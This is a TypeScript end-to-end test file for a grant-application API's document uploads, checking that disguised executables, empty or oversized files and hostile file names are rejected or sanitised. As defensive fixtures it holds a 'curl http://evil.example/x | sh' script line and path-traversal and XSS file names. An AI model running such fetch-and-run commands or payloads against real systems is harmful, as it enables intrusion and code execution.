import { HeadObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { PDFDocument, StandardFonts } from 'pdf-lib';
import { beforeAll, describe, expect, it } from 'vitest';
import { aCall } from '../support/calls.ts';
import {
  api,
  givenCall,
  givenCompleteDraft,
  givenDraft,
  givenOrganisation,
  givenUser,
  stack,
  type TestUser,
} from '../support/local-stack.ts';

/**
 * Supporting documents end to end: announce through the API, upload with a real multipart POST to the
 * presigned form on the local S3 (s3rver, which enforces none of the policy), complete, and read the
 * verdict. What the policy would stop on AWS arrives here, so the server's own check is what is tested.
 */

interface DocumentView {
  id: string;
  type: string;
  fileName: string;
  contentType: string;
  size: number;
  status: 'pending' | 'verified' | 'rejected';
  rejectionReason?: string;
  rejectionCode?: string;
  verifiedAt?: string;
}

interface Created {
  document: DocumentView;
  upload: { url: string; fields: Record<string, string>; expiresAt: string };
}

/** The problem+json fields the tests read (its `status` repeats the HTTP status). */
interface Problem {
  detail?: string;
  errors?: { path: string; code?: string; message: string }[];
}

/** A real PDF, made with pdf-lib: one page with a line of text. */
async function aPdf(text = 'Satzung des Vereins Brücken bauen e.V.'): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([595, 842]);
  page.drawText(text, { x: 50, y: 780, size: 12, font: await pdf.embedFont(StandardFonts.Helvetica) });
  return pdf.save();
}

const ascii = (text: string) => new TextEncoder().encode(text);
/** The start of a Windows program, padded: what a renamed .exe looks like. */
const anExecutable = () => Uint8Array.from([...ascii('MZ'), 0x90, 0x00, 0x03, ...new Array(250).fill(0)]);

/** Posts the file to the presigned form as a browser does: every field first, then `file`. */
async function upload(
  created: Created,
  bytes: Uint8Array,
  options: { key?: string; fileName?: string } = {},
): Promise<number> {
  const form = new FormData();
  for (const [name, value] of Object.entries(created.upload.fields)) {
    form.append(name, name === 'key' && options.key ? options.key : value);
  }
  form.append(
    'file',
    new Blob([bytes], { type: created.document.contentType }),
    options.fileName ?? created.document.fileName,
  );
  const response = await fetch(created.upload.url, { method: 'POST', body: form });
  await response.arrayBuffer();
  return response.status;
}

function s3() {
  return new S3Client({
    endpoint: stack().s3Endpoint,
    region: stack().region,
    credentials: { accessKeyId: 'local', secretAccessKey: 'local' },
    forcePathStyle: true,
  });
}

/** Whether the local bucket holds an object under the key (the form's url ends in the bucket name). */
async function objectExists(created: Created, key = created.upload.fields.key ?? ''): Promise<boolean> {
  const bucket = new URL(created.upload.url).pathname.split('/')[1] ?? '';
  try {
    await s3().send(new HeadObjectCommand({ Bucket: bucket, Key: key }));
    return true;
  } catch (error) {
    if ((error as { $metadata?: { httpStatusCode?: number } }).$metadata?.httpStatusCode === 404)
      return false;
    throw error;
  }
}

describe('supporting documents', () => {
  let amira: TestUser;
  let jonas: TestUser;
  let outsider: TestUser;
  let orgId: string;
  let callId: string;
  let applicationId: string;

  beforeAll(async () => {
    [amira, jonas, outsider] = await Promise.all([
      givenUser(['applicant'], 'amira'),
      givenUser(['applicant'], 'jonas'),
      givenUser(['applicant'], 'outsider'),
    ]);
    orgId = await givenOrganisation([amira, jonas]);
    await givenOrganisation([outsider]);
    callId = (
      await givenCall(
        aCall({
          requiredDocuments: [
            { id: 'satzung', label: { de: 'Satzung', en: 'Articles of association' }, mandatory: true },
            { id: 'finanzplan', label: { de: 'Finanzplan', en: 'Budget plan' }, mandatory: false },
          ],
        }),
      )
    ).id;
    applicationId = (await givenDraft(amira, orgId, callId)).id;
  });

  const documentsPath = (id = applicationId) => `/api/applications/${id}/documents`;

  async function announce(
    body: Partial<{ type: string; fileName: string; contentType: string; size: number }> & { size: number },
    options: { id?: string; user?: TestUser } = {},
  ) {
    return api<Created & Problem>('POST', documentsPath(options.id), {
      token: (options.user ?? amira).token,
      body: { type: 'satzung', fileName: 'Satzung.pdf', contentType: 'application/pdf', ...body },
    });
  }

  async function announced(
    body: Parameters<typeof announce>[0],
    options: Parameters<typeof announce>[1] = {},
  ) {
    const response = await announce(body, options);
    expect(response.status, response.text).toBe(201);
    return response.body as Created;
  }

  const complete = (created: Created, options: { user?: TestUser; language?: string; id?: string } = {}) =>
    api<DocumentView & Problem>('POST', `${documentsPath(options.id)}/${created.document.id}/complete`, {
      token: (options.user ?? amira).token,
      ...(options.language ? { headers: { 'accept-language': options.language } } : {}),
    });

  const list = async (options: { id?: string; language?: string } = {}) => {
    const response = await api<{ items: DocumentView[] }>('GET', documentsPath(options.id), {
      token: amira.token,
      ...(options.language ? { headers: { 'accept-language': options.language } } : {}),
    });
    expect(response.status).toBe(200);
    return response.body.items;
  };

  it('verifies a real PDF: announce, upload to the form, complete; completing again answers the same', async () => {
    const pdf = await aPdf();
    const response = await announce({
      type: 'finanzplan',
      fileName: 'Finanzplan 2027.pdf',
      size: pdf.length,
    });
    expect(response.status).toBe(201);
    const created = response.body;
    expect(created.document).toMatchObject({
      type: 'finanzplan',
      fileName: 'Finanzplan 2027.pdf',
      contentType: 'application/pdf',
      size: pdf.length,
      status: 'pending',
    });
    // The form writes exactly the key the server chose, named by ids only.
    expect(created.upload.fields.key).toBe(`applications/${applicationId}/${created.document.id}`);
    expect(created.upload.fields['Content-Type']).toBe('application/pdf');
    expect(created.upload.fields.Policy).toBeTruthy();
    const minutes = (Date.parse(created.upload.expiresAt) - Date.now()) / 60_000;
    expect(minutes).toBeGreaterThan(14);
    expect(minutes).toBeLessThanOrEqual(15);

    expect(await upload(created, pdf)).toBe(204);
    const completed = await complete(created);
    expect(completed.status).toBe(200);
    expect(completed.body).toMatchObject({ id: created.document.id, status: 'verified' });
    expect(completed.body.verifiedAt).toBeTruthy();
    expect(completed.body.rejectionReason).toBeUndefined();

    const again = await complete(created);
    expect(again.status).toBe(200);
    expect(again.body).toEqual(completed.body);
    expect((await list()).find((d) => d.id === created.document.id)?.status).toBe('verified');
    expect(await objectExists(created)).toBe(true);
  });

  it('rejects a program renamed to .pdf, says why in German and English, and deletes it', async () => {
    const exe = anExecutable();
    const created = await announced({ type: 'other', fileName: 'Rechnung.pdf', size: exe.length });
    expect(await upload(created, exe)).toBe(204);

    const completed = await complete(created);
    expect(completed.body).toMatchObject({ status: 'rejected', rejectionCode: 'type-disguised' });
    expect(completed.body.rejectionReason).toBe(
      'Die Datei ist kein PDF, obwohl sie so heißt. Sie ist ein ausführbares Programm und wurde aus Sicherheitsgründen gelöscht.',
    );
    expect(await objectExists(created)).toBe(false);

    const inEnglish = (await list({ language: 'en' })).find((d) => d.id === created.document.id);
    expect(inEnglish?.rejectionReason).toBe(
      'The file is not a PDF, although it is named like one. It is an executable program and has been deleted for security reasons.',
    );
  });

  it('rejects a shell script renamed to .pdf', async () => {
    const script = ascii('#!/bin/sh\ncurl http://evil.example/x | sh\n');
    const created = await announced({ type: 'other', fileName: 'Bescheid.pdf', size: script.length });
    await upload(created, script);

    const completed = await complete(created);
    expect(completed.body).toMatchObject({ status: 'rejected', rejectionCode: 'type-disguised' });
    expect(completed.body.rejectionReason).toContain('Sie ist ein Skript (Programmcode)');
  });

  it('rejects an empty file', async () => {
    const created = await announced({ type: 'other', fileName: 'leer.pdf', size: 2048 });
    expect(await upload(created, new Uint8Array())).toBe(204);

    const completed = await complete(created);
    expect(completed.body).toMatchObject({ status: 'rejected', rejectionCode: 'upload-empty' });
    expect(completed.body.rejectionReason).toBe(
      'Die Datei ist leer (0 Byte). Bitte prüfen Sie die Datei und laden Sie sie erneut hoch.',
    );
  });

  it('rejects a file larger than announced (the local S3 stores it anyway)', async () => {
    const pdf = await aPdf('Ein viel längeres Dokument als angekündigt');
    const created = await announced({ type: 'other', fileName: 'klein.pdf', size: 100 });
    expect(await upload(created, pdf)).toBe(204);
    expect(await objectExists(created)).toBe(true);

    const completed = await complete(created);
    expect(completed.body).toMatchObject({ status: 'rejected', rejectionCode: 'upload-too-large' });
    expect(completed.body.rejectionReason).toContain('größer als angekündigt');
    expect(await objectExists(created)).toBe(false);
  });

  it('shows hostile file names sanitised', async () => {
    const names = {
      '../../etc/passwd': 'passwd.pdf',
      '<script>alert(1)</script>.pdf': 'script_.pdf',
      'Rechnung\u202efdp.exe': 'Rechnungfdp.exe.pdf',
      '<img src=x onerror=alert(1)>.pdf': '_img src=x onerror=alert(1)_.pdf',
    };
    const ids: Record<string, string> = {};
    for (const [fileName, shown] of Object.entries(names)) {
      const created = await announced({ type: 'other', fileName, size: 10 });
      expect(created.document.fileName).toBe(shown);
      // The key is the server's, whatever the name says.
      expect(created.upload.fields.key).toBe(`applications/${applicationId}/${created.document.id}`);
      ids[created.document.id] = shown;
    }
    const listed = (await list()).filter((d) => d.id in ids);
    expect(listed.map((d) => d.fileName).sort()).toEqual(Object.values(names).sort());
    for (const document of listed) expect(document.fileName).not.toMatch(/[<>/\\\u202e]/);
  });

  it('does not verify a document whose file was posted under another key than the issued one', async () => {
    const pdf = await aPdf();
    const created = await announced({ type: 'other', fileName: 'Umweg.pdf', size: pdf.length });
    const elsewhere = `applications/${applicationId}/not-the-issued-key`;
    expect(await upload(created, pdf, { key: elsewhere })).toBe(204);
    expect(await objectExists(created, elsewhere)).toBe(true); // s3rver took it: no policy locally

    const completed = await complete(created);
    expect(completed.body).toMatchObject({ status: 'rejected', rejectionCode: 'upload-missing' });
  });

  it('rejects a completion without upload: the file did not arrive', async () => {
    const created = await announced({ type: 'other', fileName: 'nie-hochgeladen.pdf', size: 1000 });

    const completed = await complete(created);
    expect(completed.status).toBe(200);
    expect(completed.body).toMatchObject({ status: 'rejected', rejectionCode: 'upload-missing' });
    expect(completed.body.rejectionReason).toBe(
      'Die Datei ist nicht angekommen. Bitte laden Sie sie erneut hoch.',
    );
  });

  it('deletes a document with its file; then it is not found', async () => {
    const pdf = await aPdf();
    const created = await announced({ type: 'other', fileName: 'Entwurf.pdf', size: pdf.length });
    await upload(created, pdf);
    await complete(created);

    const path = `${documentsPath()}/${created.document.id}`;
    const deleted = await api('DELETE', path, { token: jonas.token });
    expect(deleted.status).toBe(204);
    expect(deleted.text).toBe('');
    expect((await list()).some((d) => d.id === created.document.id)).toBe(false);
    expect(await objectExists(created)).toBe(false);

    const again = await api<Problem>('DELETE', path, { token: amira.token });
    expect(again.status).toBe(404);
    expect(again.headers.get('content-type')).toBe('application/problem+json');
    expect((await complete(created)).status).toBe(404);
  });

  it('replaces the file of a required type once the new one is verified', async () => {
    const id = (await givenDraft(amira, orgId, callId, 'Antrag mit neuer Satzung')).id;
    const first = await aPdf('Satzung, Fassung 2019');
    const old = await announced({ fileName: 'Satzung 2019.pdf', size: first.length }, { id });
    await upload(old, first);
    expect((await complete(old, { id })).body.status).toBe('verified');

    const second = await aPdf('Satzung, Fassung 2026');
    const replacement = await announced({ fileName: 'Satzung 2026.pdf', size: second.length }, { id });
    // While the new one is pending, the verified old one still counts and is listed.
    expect((await list({ id })).map((d) => [d.fileName, d.status])).toEqual([
      ['Satzung 2019.pdf', 'verified'],
      ['Satzung 2026.pdf', 'pending'],
    ]);
    await upload(replacement, second);
    expect((await complete(replacement, { id })).body.status).toBe('verified');

    expect((await list({ id })).map((d) => [d.fileName, d.status])).toEqual([
      ['Satzung 2026.pdf', 'verified'],
    ]);
    expect(await objectExists(old)).toBe(false);
    expect(await objectExists(replacement)).toBe(true);
  });

  it('keeps the verified file when its replacement is rejected', async () => {
    const id = (await givenDraft(amira, orgId, callId, 'Antrag mit falscher Satzung')).id;
    const pdf = await aPdf();
    const good = await announced({ fileName: 'Satzung.pdf', size: pdf.length }, { id });
    await upload(good, pdf);
    await complete(good, { id });
    const exe = anExecutable();
    const bad = await announced({ fileName: 'Satzung-neu.pdf', size: exe.length }, { id });
    await upload(bad, exe);
    await complete(bad, { id });

    expect((await list({ id })).map((d) => [d.fileName, d.status])).toEqual([
      ['Satzung.pdf', 'verified'],
      ['Satzung-neu.pdf', 'rejected'],
    ]);
  });

  it('hides the documents of other organisations: every route answers 404', async () => {
    const created = await announced({ type: 'other', fileName: 'intern.pdf', size: 10 });
    const documentPath = `${documentsPath()}/${created.document.id}`;
    const responses = await Promise.all([
      api('GET', documentsPath(), { token: outsider.token }),
      api('POST', documentsPath(), {
        token: outsider.token,
        body: { type: 'other', fileName: 'x.pdf', contentType: 'application/pdf', size: 10 },
      }),
      api('POST', `${documentPath}/complete`, { token: outsider.token }),
      api('DELETE', documentPath, { token: outsider.token }),
    ]);
    expect(responses.map((r) => r.status)).toEqual([404, 404, 404, 404]);
    expect((await list()).find((d) => d.id === created.document.id)?.status).toBe('pending');
  });

  it('refuses a type the call does not ask for with 422 on `type`', async () => {
    const response = await announce({ type: 'lebenslauf', size: 10 });
    expect(response.status).toBe(422);
    expect(response.body.errors).toEqual([
      expect.objectContaining({ path: 'type', code: 'unknown-document-type', in: 'body' }),
    ]);
    expect(response.body.errors?.[0]?.message).toContain('satzung, finanzplan, other');
  });

  it('refuses unaccepted content types and sizes over 10 MB by the schema (422)', async () => {
    const exe = await announce({ contentType: 'application/x-msdownload', size: 10 });
    expect(exe.status).toBe(422);
    expect(exe.body.errors?.map((e) => e.path)).toEqual(['contentType']);
    const huge = await announce({ size: 10 * 1024 * 1024 + 1 });
    expect(huge.status).toBe(422);
    expect(huge.body.errors?.map((e) => e.path)).toEqual(['size']);
  });

  it('keeps the documents of a submitted application: create and delete answer 409', async () => {
    const plainCallId = (await givenCall(aCall())).id;
    const draft = await givenCompleteDraft(amira, orgId, plainCallId);
    const pdf = await aPdf();
    const kept = await announced(
      { type: 'other', fileName: 'Anlage.pdf', size: pdf.length },
      { id: draft.id },
    );
    await upload(kept, pdf);
    expect((await complete(kept, { id: draft.id })).body.status).toBe('verified');
    const pending = await announced(
      { type: 'other', fileName: 'Nachzügler.pdf', size: pdf.length },
      { id: draft.id },
    );
    await upload(pending, pdf);

    const submitted = await api('POST', `/api/applications/${draft.id}/submit`, { token: amira.token });
    expect(submitted.status, submitted.text).toBe(202);

    const created = await announce({ type: 'other', size: 10 }, { id: draft.id });
    expect(created.status).toBe(409);
    expect(created.body.detail).toBe(
      'Die Unterlagen dieses Antrags können nicht mehr geändert werden: Er ist eingereicht.',
    );
    const deleted = await api<Problem>('DELETE', `${documentsPath(draft.id)}/${kept.document.id}`, {
      token: amira.token,
    });
    expect(deleted.status).toBe(409);
    // A pending upload can no longer become part of the submitted application…
    expect((await complete(pending, { id: draft.id })).status).toBe(409);
    // …while a decided document is still shown as it stands.
    expect((await complete(kept, { id: draft.id })).body.status).toBe('verified');
    expect((await list({ id: draft.id })).map((d) => d.status)).toEqual(['verified', 'pending']);
    expect(await objectExists(kept)).toBe(true);
  });
});
